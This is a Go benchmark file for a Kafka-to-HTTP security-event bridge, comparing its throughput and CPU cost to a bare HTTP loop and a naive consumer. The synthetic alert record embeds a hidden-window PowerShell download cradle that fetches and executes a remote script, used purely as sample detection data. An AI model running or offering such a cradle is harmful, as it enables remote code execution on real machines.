package bridge_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"runtime"
	"slices"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/twmb/franz-go/pkg/kfake"
	"github.com/twmb/franz-go/pkg/kgo"

	"serbridge/bridge"
	"serbridge/bridge/deadletter"
	"serbridge/bridge/secret"
	"serbridge/bridge/stellar"
	"serbridge/transform"
	"serbridge/transform/format"
)

// BenchmarkPipeline drives records of about 560 bytes from an embedded broker
// through the whole bridge into a bare HTTP sink, and beside it, as often, the
// floor: the same documents POSTed by a bare net/http loop over as many
// connections. Each has five turns, of which the best counts: what else runs on
// the machine only ever costs. Broker and sink are in this process, and the floor
// has no broker at all; so between the two stands what nobody can do without, the
// naive loop: a consumer that transforms and POSTs, and guarantees nothing.
//
//	go test -run '^$' -bench Pipeline -count 5 ./bridge
//
// x-floor-cpu and %-floor-rate are of the bridge, with MAX_REPEATS=200 and the
// limiter on, to the floor of the same run; naive-x-cpu and naive-%-rate of the
// naive loop; %-unbounded-rate is of the bridge at RATE_LIMIT=0 with its bound
// to that without a bound.
func BenchmarkPipeline(b *testing.B) {
	bridge.TuneHeap(1 << 30) // as run does, for all alike; the broker's log is in this process, so it has room
	for _, latency := range []time.Duration{0, 5 * time.Millisecond} {
		b.Run(latency.String(), func(b *testing.B) {
			w := newBenchWorld(b, latency)
			b.ReportAllocs()
			b.StopTimer()
			var floor, naive, bounded, unbounded, bridged cost
			turns := []func(){
				func() { floor.best(w.run(w.floor)) },
				func() { naive.best(w.run(w.naive)) },
				func() { unbounded.best(w.run(func() { w.bridge(-1, 0) })) },
				func() { bounded.best(w.run(func() { w.bridge(200, 0) })) },
				func() { bridged.best(w.run(func() { w.bridge(200, 1e6) })) },
			}
			b.StartTimer() // the allocations are of this turn, which counts no further
			w.run(func() { w.bridge(200, 1e6) })
			b.StopTimer()
			for range 5 { // there and back, so that a machine that slows down meanwhile slows all alike
				for _, turn := range turns {
					turn()
				}
				slices.Reverse(turns)
			}
			b.ReportMetric(bridged.rate, "docs/s")
			b.ReportMetric(bridged.cpu, "cpu-µs/doc")
			b.ReportMetric(floor.cpu, "floor-cpu-µs/doc")
			b.ReportMetric(bridged.cpu/floor.cpu, "x-floor-cpu")
			b.ReportMetric(100*bridged.rate/floor.rate, "%-floor-rate")
			b.ReportMetric(naive.cpu/floor.cpu, "naive-x-cpu")
			b.ReportMetric(100*naive.rate/floor.rate, "naive-%-rate")
			b.ReportMetric(100*bounded.rate/unbounded.rate, "%-unbounded-rate")
		})
	}
}

const benchInFlight = 64

func benchRecord(i int) []byte {
	return fmt.Appendf(nil, `{"event_name":"Suspicious PowerShell download cradle","timestamp":%d,"event_status":"New","event_source":"bench_edr",`+
		`"event_category":"killchain","event_type":"process","severity":%d,"event_score":%d,"fidelity":87.5,"orig_id":"bench-%09d",`+
		`"detected_field":"process.command_line","detected_value":"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",`+
		`"host":"workstation-%04d","user":"j.doe","srcip":"10.20.%d.%d","dstip":"198.51.100.7","rule_id":"R-1042","url":"https://edr.example.com/alerts/%d"}`,
		1_750_000_000_000+int64(i), i%101, i%101, i, i%5000, i%250, i%199, i)
}

// sink answers every POST as the API does, after a latency, and counts them.
type sink struct {
	latency time.Duration
	left    atomic.Int64
	first   sync.Once
	begun   time.Time     // when the first came
	took    time.Duration // from then to the last
	done    chan struct{} // capacity 1: none is left
}

func (s *sink) expect(n int) {
	s.left.Store(int64(n))
	s.first = sync.Once{}
}

func (s *sink) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.first.Do(func() { s.begun = time.Now() })
	_, _ = io.Copy(io.Discard, r.Body)
	if s.latency > 0 {
		time.Sleep(s.latency)
	}
	w.Header().Set("Content-Type", "application/json")
	_, _ = io.WriteString(w, `{"index":"aella-ser-2026.11.24-","_id":"ZbWyFnkBZsFu_Ay8bQxZ"}`)
	if s.left.Add(-1) == 0 {
		s.took = time.Since(s.begun)
		s.done <- struct{}{}
	}
}

// benchWorld is a broker that holds b.N records, and a sink. All that is
// measured against each other runs with both in the process, so that the
// garbage collector has the same to look at.
type benchWorld struct {
	b       *testing.B
	sink    *sink
	url     string
	options []kgo.Opt
	docs    [][]byte // what the floor sends in turn
	groups  int
}

func newBenchWorld(b *testing.B, latency time.Duration) *benchWorld {
	w := &benchWorld{b: b, sink: &sink{latency: latency, done: make(chan struct{}, 1)}}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	server := &http.Server{Handler: w.sink}
	go server.Serve(ln) // ended by Close
	b.Cleanup(func() { server.Close() })
	w.url = "http://" + ln.Addr().String()
	broker, err := kfake.NewCluster(kfake.NumBrokers(1), kfake.SeedTopics(8, "bench"))
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(broker.Close)
	w.options = []kgo.Opt{kgo.SeedBrokers(broker.ListenAddrs()...), kgo.DisableClientMetrics()}
	fill(b, w.options, b.N)
	w.docs = make([][]byte, min(b.N, 4096))
	for i := range w.docs {
		w.docs[i] = benchDocument(benchRecord(i), int64(i))
	}
	return w
}

func benchDocument(record []byte, offset int64) []byte {
	r := format.Transform(transform.Input{Value: record, Topic: "bench", Offset: offset, Timestamp: time.Now(), Now: time.Now()})
	doc, _ := r.Parts[0].Document.Encode()
	return doc
}

// cost is what one document cost: processor time in µs, and the documents a
// second from the first that reached the sink to the last.
type cost struct{ cpu, rate float64 }

// best keeps the better of the turns.
func (c *cost) best(d cost) {
	if c.cpu == 0 || d.cpu < c.cpu {
		c.cpu = d.cpu
	}
	c.rate = max(c.rate, d.rate)
}

func (w *benchWorld) run(work func()) cost {
	runtime.GC() // what came before is not for this one to clear away
	w.sink.expect(w.b.N)
	cpu := cpuTime()
	work()
	n := float64(w.b.N)
	return cost{cpu: float64((cpuTime() - cpu).Nanoseconds()) / 1e3 / n, rate: n / w.sink.took.Seconds()}
}

func cpuTime() time.Duration {
	var u syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &u)
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

func (w *benchWorld) floor() {
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: benchInFlight, MaxConnsPerHost: benchInFlight}}
	defer client.CloseIdleConnections()
	var next atomic.Int64
	var all sync.WaitGroup
	for range benchInFlight {
		all.Go(func() {
			for i := next.Add(1) - 1; i < int64(w.b.N); i = next.Add(1) - 1 {
				post(w.b, client, w.url, w.docs[i%int64(len(w.docs))])
			}
		})
	}
	all.Wait()
	<-w.sink.done
}

func post(b *testing.B, client *http.Client, url string, doc []byte) {
	resp, err := client.Post(url, "application/json", bytes.NewReader(doc))
	if err != nil {
		b.Error(err)
		return
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
}

// naive is the least that can stand between a topic and the API.
func (w *benchWorld) naive() {
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: benchInFlight, MaxConnsPerHost: benchInFlight}}
	defer client.CloseIdleConnections()
	w.groups++
	consumer, err := kgo.NewClient(append(w.options[:len(w.options):len(w.options)],
		kgo.ConsumerGroup(fmt.Sprintf("naive%d", w.groups)), kgo.ConsumeTopics("bench"))...)
	if err != nil {
		w.b.Fatal(err)
	}
	defer consumer.Close()
	records := make(chan *kgo.Record, benchInFlight)
	var all sync.WaitGroup
	for range benchInFlight {
		all.Go(func() {
			for r := range records {
				post(w.b, client, w.url, benchDocument(r.Value, r.Offset))
			}
		})
	}
	for received := 0; received < w.b.N; {
		fs := consumer.PollRecords(context.Background(), 1024)
		fs.EachRecord(func(r *kgo.Record) { records <- r })
		received += fs.NumRecords()
	}
	close(records)
	all.Wait()
	<-w.sink.done
}

func (w *benchWorld) bridge(maxRepeats int, rate float64) {
	b := w.b
	w.groups++
	group := fmt.Sprintf("bench%d", w.groups)
	client, err := stellar.New(stellar.Config{URL: w.url, Auth: stellar.AuthBasic, MaxInFlight: benchInFlight,
		User: secret.Literal("bench@example.com"), APIKey: secret.Literal("bench-key")})
	if err != nil {
		b.Fatal(err)
	}
	defer client.Close()
	letters, err := deadletter.NewWriter(deadletter.Config{Options: w.options, Topic: "bench.dlq", Create: true})
	if err != nil {
		b.Fatal(err)
	}
	defer letters.Close()
	br, err := bridge.New(bridge.Config{Kafka: w.options, Topics: []string{"bench"}, Group: group, Stellar: client, DeadLetters: letters,
		MaxInFlight: benchInFlight, MaxRepeats: maxRepeats, RateLimit: rate, RateBurst: 1000, Registerer: prometheus.NewRegistry()})
	if err != nil {
		b.Fatal(err)
	}
	ctx, stop := context.WithCancel(context.Background())
	defer stop()
	ended := make(chan error, 1)
	go func() { ended <- br.Run(ctx) }()
	<-w.sink.done
	stop()
	if err := <-ended; err != nil {
		b.Fatal(err)
	}
}

func fill(b *testing.B, options []kgo.Opt, n int) {
	producer, err := kgo.NewClient(append(options, kgo.DefaultProduceTopic("bench"))...)
	if err != nil {
		b.Fatal(err)
	}
	defer producer.Close()
	for i := range n {
		producer.Produce(context.Background(), &kgo.Record{Value: benchRecord(i)}, func(_ *kgo.Record, err error) {
			if err != nil {
				b.Error(err)
			}
		})
	}
	if err := producer.Flush(context.Background()); err != nil {
		b.Fatal(err)
	}
}
